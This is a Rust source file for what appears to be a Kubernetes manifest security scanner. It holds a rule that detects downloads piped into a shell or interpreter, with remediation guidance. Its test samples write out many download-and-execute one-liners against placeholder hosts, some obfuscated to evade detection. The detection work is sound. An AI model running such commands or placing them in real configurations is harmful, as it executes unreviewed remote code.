//! Programs and scripts that come over the network.

use super::words::{cluster, option, words};
use super::{COMMAND, Facts, Rule, Sample, Severity};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::code;
use crate::detect::findings::Collector;
use crate::detect::flow::{At, Kind, prints_fetched};
use crate::normalize::Invocation;
use crate::normalize::exec::is_shell;

pub(super) static RULES: &[Rule] = &[Rule {
    id: "cmd-download-exec",
    title: "Download piped into an interpreter",
    message: "runs what it downloads, without storing it",
    meaning: "What is run is decided by the server at the time of the request; nobody has reviewed it.",
    false_positives: "Installers that are documented as `curl … | sh`.",
    confirm: &[
        Step::Object(
            "The URL, and what reads it: sh, bash, python. Compare the host with the one that the \
                 vendor documents.",
        ),
        Step::Logs(
            "What the downloaded script did. If it says nothing, fetch the URL in a sandbox, never \
                 from your own machine; it may answer differently by now.",
        ),
    ],
    remedy: Remedy {
        exposes: &[Exposure::Token, Exposure::Secrets],
        attack: "The script was whatever the server sent at that moment. Assume it had everything that \
                     the pod could reach. Block the host, and look for it in the command of other workloads \
                     and in proxy logs.",
        benign: "Build an image that has the tool in it. If it must be fetched, fetch one released \
                     version over HTTPS into a file, check it with sha256sum -c against a value in the \
                     manifest, and only then run it.",
    },
    severity: Severity::High,
    points: 45,
    techniques: &["T1105", "T1059.004"],
    references: &[links::IMAGES, links::SUPPLY_CHAIN],
    check: |facts, found| runs_input_of(facts, found, &prints_fetched),
    samples: &[
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
        ),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/s https://x.test/s; cat /tmp/s | sh']}]",
        ),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'ssh u@192.0.2.10 cat /p.sh | bash']}]"),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/p.sh - | bash']}]"),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | sh']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'git archive --remote=git://192.0.2.10/r HEAD run.sh | tar xO | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'echo http://192.0.2.10/s | xargs curl -s | xargs -0 sh -c']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'r() { sh; }; curl -s http://192.0.2.10/s | r']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'x() { eval \"$1\"; }; x \"$(curl -s http://192.0.2.10/s)\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [bash, -c, 'mapfile -t a < <(curl -s http://192.0.2.10/s); eval \"${a[@]}\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [bash, -c, 'read -r -d E x < <(curl -s http://192.0.2.10/s); eval \"$x\"']}]",
        ),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | fish']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | tcsh -f']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /tmp/log; curl -s http://192.0.2.10/s | /tmp/log']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'ln -s /bin/bash /tmp/b; curl -s http://192.0.2.10/s | /tmp/b']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'cp $(command -v curl) /tmp/a; /tmp/a -s http://192.0.2.10/s | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'curl-8.5.0 -s http://192.0.2.10/s | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
        ),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'finger run@192.0.2.10 | sh']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [ssh, localhost, 'curl -s http://192.0.2.10/s | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [vim, -es, -c, ':!curl -s http://192.0.2.10/s | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [git, -c, 'core.sshCommand=curl -s http://192.0.2.10/s | sh', fetch]}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [psql, -c, '\\! curl -s http://192.0.2.10/s | sh']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [Rscript, -e, 'system(\"curl -s http://192.0.2.10/s | sh\")']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [deno, eval, 'new Deno.Command(\"sh\",{args:[\"-c\",\"curl -s http://192.0.2.10/s | sh\"]}).outputSync()']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [ssh, deploy@web.example.test, systemctl reload nginx]}]",
        ),
        Sample::Miss("containers: [{name: a, command: [Rscript, -e, 'cat(\"see: curl http://x/s | sh\")']}]"),
        Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | at now']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'wget -qO- http://192.0.2.10/c | crontab -']}]",
        ),
        Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/x | cat; crontab -l']}]"),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'r() { sh; }; echo \"curl -s http://192.0.2.10/s | sh\" | r']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/a; tail -n 1 /tmp/a > /tmp/b; sh /tmp/b']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/p; sh < /tmp/p & echo \"curl -s http://192.0.2.10/s | sh\" > /tmp/p']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [bash, -c, 'c=\"curl -s http://192.0.2.10/s | sh\"; declare -n r=c; eval \"$r\"']}]",
        ),
        Sample::Hit(
            45,
            "containers: [{name: a, command: [sh, -c, 'awk \"BEGIN{print \\\"curl -s http://192.0.2.10/s | sh\\\"}\" | sh']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'whois -h whois.example.test example.test | grep -i expiry']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'w() { cat > /out/help.txt; }; echo \"curl http://x/s | sh\" | w; cat /out/help.txt']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'cp /bin/sh /rescue/sh; curl -s http://svc/x | /app/log']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, '[ -x \"$(command -v curl)\" ] && \"$(which curl)\" -s http://svc/health']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'curl -s https://x.test/v > /tmp/v; cat /tmp/v; echo id | sh']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'dig +short TXT p.example.test | grep spf']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'aws s3 cp s3://bucket/dump.gz - | gunzip | psql shop']}]",
        ),
        Sample::Miss("containers: [{name: a, command: [sh, -c, 'ssh u@host uptime; sh /app/run.sh']}]"),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | xargs -n1 sh -c \"process $0\"']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'log() { tee -a /var/log/x; }; curl -s http://svc/x | log; sh /app/run.sh']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [bash, -c, 'read -r n < <(curl -s http://svc/n); bash -c \"process $n\"']}]",
        ),
        Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]"),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]",
        ),
        Sample::Miss(
            "containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]",
        ),
        Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
    ],
    ..COMMAND
}];

/// Hits for everything that runs the output of a source.
pub(super) fn runs_input_of(
    facts: &Facts<'_>,
    found: &mut Collector<'_>,
    is_source: &impl Fn(&Invocation) -> bool,
) {
    let reached = facts.reach(|_, call| is_source(call), Kind::Program);
    for (number, run) in facts.runs.iter().enumerate() {
        let mut sinks = run.invocations().filter(|(_, call)| runs_its_input(call));
        let sink = sinks.find_map(|(at, _)| Some((at, reached.source_of(number, at)?)));
        if let Some((at, source)) = sink {
            found.hit(Some(&run.container.name), run.path(), &show(facts, source, (number, at)));
        }
    }
}

/// Evidence for what goes from one invocation to another.
pub(super) fn show(facts: &Facts<'_>, source: At, to: At) -> String {
    let text = |(run, at): At| facts.runs.get(run).map(|run| run.show(at)).unwrap_or_default();
    if source == to { text(to) } else { format!("{} | {}", text(source), text(to)) }
}

/// Takes a program from its standard input or its words and runs it: a shell or an interpreter without a
/// script of its own, `eval`, `source`.
fn runs_its_input(invocation: &Invocation) -> bool {
    let program = invocation.program.as_str();
    // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
    let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
    match program {
        // Output that is known beforehand stands there already, marked as disguised.
        "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
        "source" | "." => {
            return operand.is_some_and(|word| {
                word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-")
            });
        }
        // A program whose name came from there.
        "$()" => return invocation.args.is_empty(),
        // Run later, but run.
        "at" | "batch" => return option(invocation, &["-f"]).is_none(),
        "crontab" => return operand.is_none() && words(invocation).any(|word| word == "-"),
        _ => {}
    }
    let is_stdin = |text: &str| matches!(text, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
    // A process substitution or standard input by name is no script of its own.
    let from_input = operand.is_none_or(|word| word.text.starts_with("<(") || is_stdin(&word.text));
    // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
    let reads =
        words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
    if is_shell(program) {
        let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
        // `xargs sh -c` puts what it reads there.
        let by_xargs = invocation.prefixes.iter().any(|prefix| prefix == "xargs");
        return if inline {
            match operand {
                Some(word) => begins(&word.text) || word.disguised || by_xargs && is_placeholder(&word.text),
                None => by_xargs,
            }
        } else {
            from_input || reads
        };
    }
    match code::inline(invocation) {
        Some(code) => begins(code),
        None => {
            code::reads_stdin(invocation)
                || code::language(program).is_some_and(|l| l != code::Language::Awk)
                    && operand.is_some_and(|word| word.text.starts_with("<("))
        }
    }
}

/// What usually stands for a line that `xargs -I` reads, with nothing before it.
fn is_placeholder(text: &str) -> bool {
    ["{}", "%", "@@", "_"].iter().any(|sign| text.trim_start().starts_with(sign))
}
